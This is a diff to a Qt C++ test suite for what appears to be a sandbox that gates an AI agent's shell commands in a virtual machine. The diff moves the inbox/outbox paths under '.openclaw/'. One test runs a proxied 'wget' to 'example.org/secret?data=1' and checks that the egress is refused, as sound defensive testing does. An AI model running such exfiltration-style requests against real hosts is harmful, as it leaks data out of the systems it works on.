@@ -97,7 +97,7 @@ private:
     QString ask(const QByteArray &command)
     {
         const auto name = u"a%1"_s.arg(++m_scripts);
-        return put(u"inbox/"_s + name + u".sh"_s, command) ? name : QString();
+        return put(u".openclaw/inbox/"_s + name + u".sh"_s, command) ? name : QString();
     }
 
     std::unique_ptr<TinyMachine> m_machine;
@@ -172,8 +172,8 @@ private Q_SLOTS:
         m_decider.automatic = Verdict::Allow;
         QSignalSpy ended(m_channel->control(), &ControlSession::callEnded);
         const auto name = ask("id -un; pwd; touch made-by-" + QByteArray::number(m_scripts));
-        QCOMPARE(get(u"outbox/"_s + name + u".done"_s), QByteArray("0\n"));
-        QCOMPARE(get(u"outbox/"_s + name + u".out"_s), QByteArray("agent\n/home/agent/workspace\n"));
+        QCOMPARE(get(u".openclaw/outbox/"_s + name + u".done"_s), QByteArray("0\n"));
+        QCOMPARE(get(u".openclaw/outbox/"_s + name + u".out"_s), QByteArray("agent\n/home/agent/workspace\n"));
         QCOMPARE(m_decider.actions.size(), 1);
         QVERIFY(QJsonDocument::fromJson(m_decider.actions[0].raw)[u"command"_s].toString().startsWith(u"id -un"));
         QTRY_COMPARE(ended.count(), 1);
@@ -183,8 +183,8 @@ private Q_SLOTS:
     {
         m_decider.automatic = Verdict::Block;
         const auto name = ask("touch never");
-        QCOMPARE(get(u"outbox/"_s + name + u".done"_s), QByteArray("blocked\n"));
-        QVERIFY(get(u"outbox/"_s + name + u".verdict"_s).contains("test.rule"));
+        QCOMPARE(get(u".openclaw/outbox/"_s + name + u".done"_s), QByteArray("blocked\n"));
+        QVERIFY(get(u".openclaw/outbox/"_s + name + u".verdict"_s).contains("test.rule"));
         QVERIFY(asRoot("ls /home/agent/workspace/never\n").endsWith("exit 1"));
     }
 
@@ -200,8 +200,8 @@ private Q_SLOTS:
         m_decider.automatic = Verdict::Allow;
         QSignalSpy refused(m_channel->out(), &OutSession::egressRefused);
         const auto name = ask("http_proxy=http://127.0.0.1:3128 wget -T 20 -O - http://example.org/secret?data=1");
-        QVERIFY(get(u"outbox/"_s + name + u".done"_s) != "0\n");
-        QVERIFY2(get(u"outbox/"_s + name + u".out"_s).contains("403"), get(u"outbox/"_s + name + u".out"_s).constData());
+        QVERIFY(get(u".openclaw/outbox/"_s + name + u".done"_s) != "0\n");
+        QVERIFY2(get(u".openclaw/outbox/"_s + name + u".out"_s).contains("403"), get(u".openclaw/outbox/"_s + name + u".out"_s).constData());
         QCOMPARE(refused.count(), 1);
         QCOMPARE(refused[0][0].toString(), u"example.org:80"_s);
     }
@@ -239,9 +239,9 @@ private Q_SLOTS:
 
     void aPluginThatIsGoneIsTold()
     {
-        QVERIFY(put(u"inbox/silent"_s, {}));
+        QVERIFY(put(u".openclaw/inbox/silent"_s, {}));
         QTRY_VERIFY_WITH_TIMEOUT(!m_channel->control()->vitals().pluginHome, 10'000);
-        QVERIFY(asRoot("rm /home/agent/inbox/silent\n").endsWith("exit 0"));
+        QVERIFY(asRoot("rm /home/agent/.openclaw/inbox/silent\n").endsWith("exit 0"));
         QTRY_VERIFY_WITH_TIMEOUT(m_channel->control()->vitals().pluginHome, 10'000);
     }
 
@@ -254,7 +254,7 @@ private Q_SLOTS:
         QTRY_VERIFY_WITH_TIMEOUT(!m_channel->isAlive(), 20'000);
         QTRY_COMPARE_WITH_TIMEOUT(m_greeted->count(), before + 1, 60'000);
         QVERIFY2(!m_decider.answer(0, Verdict::Allow), "a verdict of before");
-        QCOMPARE(get(u"outbox/"_s + name + u".done"_s), QByteArray("blocked\n"));
+        QCOMPARE(get(u".openclaw/outbox/"_s + name + u".done"_s), QByteArray("blocked\n"));
         QVERIFY(asRoot("ls /home/agent/workspace/by-dead-guestd\n").endsWith("exit 1"));
         QTRY_VERIFY_WITH_TIMEOUT(m_channel->control()->vitals().pluginHome && m_channel->control()->vitals().gatewayReady, 30'000);
         QCOMPARE(asRoot("ps | grep -c '[g]ateway'\n"), QByteArray("1\nexit 0")); // the same one goes on
@@ -283,15 +283,15 @@ private Q_SLOTS:
         QTRY_COMPARE_WITH_TIMEOUT(m_greeted->count(), 1, 30'000);
         qInfo("HELLO %lld ms after the start of the restoring QEMU", clock.elapsed());
         QVERIFY2(!m_decider.answer(0, Verdict::Allow), "a verdict of the old timeline");
-        QCOMPARE(get(u"outbox/"_s + name + u".done"_s), QByteArray("blocked\n"));
-        const auto verdict = get(u"outbox/"_s + name + u".verdict"_s);
+        QCOMPARE(get(u".openclaw/outbox/"_s + name + u".done"_s), QByteArray("blocked\n"));
+        const auto verdict = get(u".openclaw/outbox/"_s + name + u".verdict"_s);
         QVERIFY2(verdict.contains("rolled-back") || verdict.contains("channel-cut"), verdict.constData());
         theClockIsTheHosts();
         QTRY_VERIFY_WITH_TIMEOUT(m_channel->control()->vitals().pluginHome, 10'000); // called anew, in this epoch
         theGatewayIsReached();
         m_decider.automatic = Verdict::Allow;
         const auto next = ask("echo alive");
-        QCOMPARE(get(u"outbox/"_s + next + u".out"_s), QByteArray("alive\n"));
+        QCOMPARE(get(u".openclaw/outbox/"_s + next + u".out"_s), QByteArray("alive\n"));
         QCOMPARE(m_decider.actions.last().epoch, Epoch{4});
         QCOMPARE(m_violations->count(), 0);
     }
